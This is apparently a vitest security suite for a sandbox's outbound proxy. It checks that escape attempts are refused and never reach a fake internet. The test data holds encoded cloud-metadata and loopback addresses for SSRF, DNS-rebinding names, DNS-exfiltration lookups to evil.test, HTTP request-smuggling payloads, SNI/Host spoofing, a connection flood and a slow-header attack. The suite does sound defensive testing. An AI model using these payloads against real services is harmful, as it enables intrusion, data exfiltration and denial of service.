import type { Sandbox } from '@coppice/sdk'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
import { residentBytes } from '../../support/host.ts'
import { runInside, saidInside } from '../../support/inside.ts'
import { ADDRESSES, Internet, PORTS } from '../../support/internet/index.ts'
import { openWorld, type World } from '../../support/world.ts'

const MiB = 1024 ** 2

/** What somebody inside who wants out would try. The internet is a fake one that sees everything that reaches it. */
describe('attacks on the way out', { timeout: 120_000 }, () => {
  let internet: Internet
  let world: World
  let box: Sandbox

  beforeAll(async () => {
    internet = await Internet.open()
    world = await openWorld({ egress: { resolvers: [ADDRESSES.resolver] } })
    box = await world.create({ cpus: 2 })
    // Another test may have the internet.
  }, 420_000)
  afterAll(async () => {
    await world?.dispose()
    await internet?.close()
  }, 60_000)
  beforeEach(async () => {
    await internet.forget()
    await box.network.set('public')
  })

  /** The answer to a plain request through the proxy, from its status line to its end. */
  const ask = (url: string) =>
    saidInside<string>(
      box,
      "say(await raw('GET ' + args[0] + ' HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n', false))",
      [url],
    )

  /** The proxy's answer to CONNECT. */
  const connect = (to: string) =>
    saidInside<string>(box, 'const { s, head } = await tunnel(args[0]); s?.destroy(); say(head)', [to])

  const lastDenied = async () => (await Array.fromAsync(box.network.log({ denied: true }))).at(-1)

  describe('addresses that nobody may reach by a name, a number or a mask', () => {
    const forms: [string, string, string][] = [
      ['metadata', 'by its address', '169.254.169.254'],
      ['metadata', 'as one decimal number', '2852039166'],
      ['metadata', 'as one hex number', '0xA9FEA9FE'],
      ['metadata', 'in octal parts', '0251.0376.0251.0376'],
      ['metadata', 'with a part left out', '169.254.43518'],
      ['metadata', 'in IPv6', '[::ffff:169.254.169.254]'],
      ['metadata', 'in IPv6, in hex', '[::ffff:a9fe:a9fe]'],
      ['metadata', 'through NAT64', '[64:ff9b::a9fe:a9fe]'],
      ['loopback', 'by its address', '127.0.0.1'],
      ['loopback', 'as a short form', '127.1'],
      ['loopback', 'in IPv6', '[::1]'],
      ['unspecified', 'by its address', '0.0.0.0'],
      ['private', 'by its address', ADDRESSES.private],
      ['private', 'of IPv6', `[${ADDRESSES.private6}]`],
      ['multicast', 'by its address', '224.0.0.1'],
      ['link_local', 'of IPv6', '[fe80::1]'],
    ]
    test.each(forms)('%s %s', async (kind, _how, host) => {
      expect(await connect(`${host}:80`)).toMatch(/^HTTP\/1\.1 403 /)
      expect(await ask(`http://${host}/`)).toMatch(/^HTTP\/1\.1 40[03] /)
      expect(await lastDenied()).toMatchObject({ verdict: 'denied', rule: expect.stringContaining(kind) })
      expect((await internet.seen()).connections).toEqual([])
    })

    test('a name that leads to one is resolved, refused and not dialled', async () => {
      for (const address of [
        ADDRESSES.metadata,
        '127.0.0.1',
        ADDRESSES.private,
        '::ffff:127.0.0.1',
        ADDRESSES.private6,
      ]) {
        await internet.setName('trap.test', [address])
        expect([address, await connect('trap.test:80')]).toEqual([address, expect.stringMatching(/^HTTP\/1\.1 403 /)])
        expect(await lastDenied()).toMatchObject({ name: 'trap.test', verdict: 'denied' })
      }
      expect((await internet.seen()).connections).toEqual([])
    })
  })

  test('a redirect to loopback leads to the sandbox’s own loopback, never to the gateway’s', async () => {
    await world.client.sandboxes.get(box.id).network.allow('127.0.0.0/8')
    const url = new URL(world.gateway.url)
    const redirected = await box.exec([
      'wget',
      '-O',
      '-',
      `http://example.test/redirect?to=${encodeURIComponent(`${url.href}healthz`)}`,
    ])
    expect([redirected.exitCode, redirected.stdout]).toEqual([1, ''])
    expect(await connect(`127.0.0.1:${url.port}`)).toMatch(/^HTTP\/1\.1 403 /)
  })

  test('the gateway’s own API cannot be reached by any of its addresses, whatever the rules say', async () => {
    const { port } = new URL(world.gateway.url)
    await box.network.set({
      mode: 'public',
      allow: ['127.0.0.1', `127.0.0.1:${port}`, '127.0.0.0/8', '::1', '198.51.100.1', '2001:db8:c0::1'],
    })
    for (const host of ['127.0.0.1', '[::1]', 'localhost', '198.51.100.1', '[2001:db8:c0::1]', '[::ffff:127.0.0.1]']) {
      expect([host, await connect(`${host}:${port}`)]).toEqual([host, expect.stringMatching(/^HTTP\/1\.1 403 /)])
    }
  })

  test('another sandbox’s preview is behind the gateway’s own address', async () => {
    const other = await world.create()
    const { port } = new URL(world.gateway.url)
    const host = `8000-${other.id}.localhost`
    expect(await connect(`${host}:${port}`)).toMatch(/^HTTP\/1\.1 403 /)
    expect(await ask(`http://${host}:${port}/`)).toMatch(/^HTTP\/1\.1 403 /)
    await other.remove()
  })

  test('a name that is public when it is looked at and private when it is dialled gains nothing', async () => {
    await internet.setName('rebind.test', [[ADDRESSES.web], [ADDRESSES.private], [ADDRESSES.metadata]])
    expect(await connect('rebind.test:80')).toMatch(/^HTTP\/1\.1 200 /)
    const refused = async () => (await connect('rebind.test:80')).startsWith('HTTP/1.1 403')
    await world.until(refused, 'the second answer of the name server to count')
    expect(new Set((await internet.seen()).connections)).toEqual(new Set([`${ADDRESSES.web}:80`]))
  })

  test('of a name with good and bad addresses only the good ones are dialled', async () => {
    await internet.setName('mixed.test', [ADDRESSES.private, ADDRESSES.web, ADDRESSES.private6])
    expect(await connect('mixed.test:80')).toMatch(/^HTTP\/1\.1 200 /)
    expect((await internet.seen()).connections).toEqual([`${ADDRESSES.web}:80`])
  })

  test('a rule for a host opens its web ports and no other', async () => {
    await box.network.set(['example.test'])
    for (const port of [PORTS.banner, PORTS.smtp, PORTS.http2, 65_535])
      expect([port, await connect(`example.test:${port}`)]).toEqual([port, expect.stringMatching(/^HTTP\/1\.1 403 /)])
    expect(await connect('example.test:80')).toMatch(/^HTTP\/1\.1 200 /)
    expect((await internet.seen()).connections).toEqual([`${ADDRESSES.web}:80`])
  })

  test('TLS that names another server than was asked for is cut before the server sees it', async () => {
    await box.network.set(['example.test'])
    const program = `
      const { s } = await tunnel('example.test:443')
      const t = tls.connect({ socket: s, servername: args[0] || undefined, rejectUnauthorized: false })
      t.on('secureConnect', () => { say('secure'); t.destroy() }); t.on('error', () => {}); t.on('close', () => say('closed'))`
    const outcome = async (name: string) => (await runInside(box, program, [name])).stdout.trim().split('\n')
    expect(await outcome('evil.test')).toEqual(['"closed"'])
    // The cut comes before it is written down; equal ones are written down together.
    const mismatch = async () =>
      (await Array.fromAsync(box.network.log({ denied: true }))).find(({ rule }) => rule === 'sni_mismatch')
    await expect.poll(mismatch, { timeout: 20_000 }).toMatchObject({ name: 'example.test', verdict: 'denied' })
    expect(await outcome('')).toEqual(['"closed"'])
    expect(await outcome('example.test')).toEqual(['"secure"', '"closed"'])
  })

  test('a Host that names another server than was asked for is refused or put right', async () => {
    await box.network.set(['example.test'])
    const said = await saidInside<string>(
      box,
      `const { s } = await tunnel('example.test:80'); s.write('GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n'); say(await all(s))`,
    )
    expect(said).not.toContain('hello from')
    const absolute = await saidInside<string>(
      box,
      "say(await raw('GET http://example.test/ HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n', false))",
    )
    const hosts = (await internet.seen()).requests.map(({ host }) => host)
    expect([absolute.slice(0, 12), hosts]).toSatisfy(
      ([status, seen]) =>
        status === 'HTTP/1.1 400' ||
        (status === 'HTTP/1.1 200' && seen.every((host: string) => host === 'example.test')),
    )
  })

  test('names that are not allowed are never resolved outside: no data leaves in questions', async () => {
    await box.network.set(['example.test'])
    for (const label of ['secret-part-1', 'secret-part-2']) await box.exec(['nslookup', `${label}.evil.test`])
    await box.exec(['nslookup', '-type=txt', 'secret.evil.test'])
    await connect('secret-part-3.evil.test:443')
    await ask('http://secret-part-4.evil.test/')
    const direct = await box.exec(['nslookup', 'secret-part-5.evil.test', ADDRESSES.resolver])
    expect(direct.exitCode).not.toBe(0)
    expect((await internet.seen()).questions).toEqual([])
    await box.exec(['nslookup', '-type=txt', 'example.test'])
    expect((await internet.seen()).questions.filter(({ type }) => type !== 'A' && type !== 'AAAA')).toEqual([])
    expect(await lastDenied()).toMatchObject({ name: 'secret-part-4.evil.test' })
  })

  describe('requests that could mean two things', () => {
    const E = '\r\n'
    const inner = `GET /smuggled HTTP/1.1${E}Host: evil.test${E}${E}`
    const shapes: [string, string][] = [
      [
        'a length and chunks',
        `POST http://example.test/echo HTTP/1.1${E}Host: example.test${E}Content-Length: 4${E}Transfer-Encoding: chunked${E}${E}0${E}${E}${inner}`,
      ],
      [
        'two lengths',
        `POST http://example.test/echo HTTP/1.1${E}Host: example.test${E}Content-Length: 0${E}Content-Length: ${inner.length}${E}${E}${inner}`,
      ],
      [
        'chunks, spelt oddly',
        `POST http://example.test/echo HTTP/1.1${E}Host: example.test${E}Transfer-Encoding: xchunked${E}${E}0${E}${E}${inner}`,
      ],
      [
        'a folded header',
        `GET http://example.test/ HTTP/1.1${E}Host: example.test${E}X: a${E} Host: evil.test${E}${E}`,
      ],
      [
        'a space before the colon',
        `GET http://example.test/ HTTP/1.1${E}Host : evil.test${E}Host: example.test${E}${E}`,
      ],
      ['bare line feeds', `GET http://example.test/ HTTP/1.1\nHost: example.test\nX: a\n\n`],
      ['a null byte', `GET http://example.test/\0 HTTP/1.1${E}Host: example.test${E}${E}`],
      ['two hosts', `GET http://example.test/ HTTP/1.1${E}Host: example.test${E}Host: evil.test${E}${E}`],
      ['userinfo that looks like a host', `GET http://evil.test@127.0.0.1/ HTTP/1.1${E}Host: evil.test${E}${E}`],
    ]
    test.each(shapes)('%s: no second request arrives, and none for somebody else', async (_name, bytes) => {
      await box.network.set(['example.test'])
      await saidInside(box, "say(await raw(Buffer.from(args[0], 'base64')))", [Buffer.from(bytes).toString('base64')])
      const { requests } = await internet.seen()
      expect(requests.filter(({ url, host }) => url.includes('smuggled') || host !== 'example.test')).toEqual([])
      expect(requests.length).toBeLessThanOrEqual(1)
    })
  })

  test('10,000 connections: most are refused, the session stays quick, memory stays flat', async () => {
    const before = residentBytes(world.gateway.pid)
    const program = `
      const held = []; let open = 0; let refused = 0
      for (let round = 0; round < 100; round += 1) await Promise.all(Array.from({ length: 100 }, async () => {
        const s = net.connect(Number(proxy.port), proxy.hostname); s.on('error', () => {})
        const ended = once(s, 'close').then(() => 'closed', () => 'closed')
        s.on('connect', () => s.write('CONNECT ${ADDRESSES.web}:${PORTS.silent} HTTP/1.1\\r\\n\\r\\n'))
        const got = await Promise.race([once(s, 'data').then(([d]) => d.toString()), ended])
        if (got.startsWith('HTTP/1.1 200')) { open += 1; held.push(s) } else { refused += 1; s.destroy() }
      }))
      say({ open, refused }); for (const s of held) s.resetAndDestroy(); process.exit(0)`
    const flood = runInside(box, program, [], { timeoutMs: 100_000 })
    const neighbour = await world.create()
    await neighbour.exec(['true'])
    const { open, refused } = JSON.parse((await flood).stdout)
    expect(open + refused).toBe(10_000)
    expect(open).toBeGreaterThan(0)
    expect(open).toBeLessThanOrEqual(512)
    expect((await internet.seen()).connections.length).toBeLessThanOrEqual(512)
    expect(residentBytes(world.gateway.pid) - before).toBeLessThan(128 * MiB)
    await neighbour.remove()
    await world.until(async () => (await box.network.get()).counts.open === 0, 'the connections to be gone')
    expect(await connect('example.test:80')).toMatch(/^HTTP\/1\.1 200 /)
  })

  test('a head that comes a byte at a time is cut within its time, and keeps nobody else waiting', async () => {
    const program = `
      const s = await dial(); const start = Date.now(); const timer = setInterval(() => s.write('G'), 200)
      const other = await tunnel('example.test:80'); say({ other: other.head.slice(0, 12) }); other.s.destroy()
      await all(s); clearInterval(timer); say({ after: Date.now() - start }); process.exit(0)`
    const lines = (await runInside(box, program, [], { timeoutMs: 60_000 })).stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line))
    expect(lines[0]).toEqual({ other: 'HTTP/1.1 200' })
    expect(lines[1].after).toBeLessThan(30_000)
  })
})
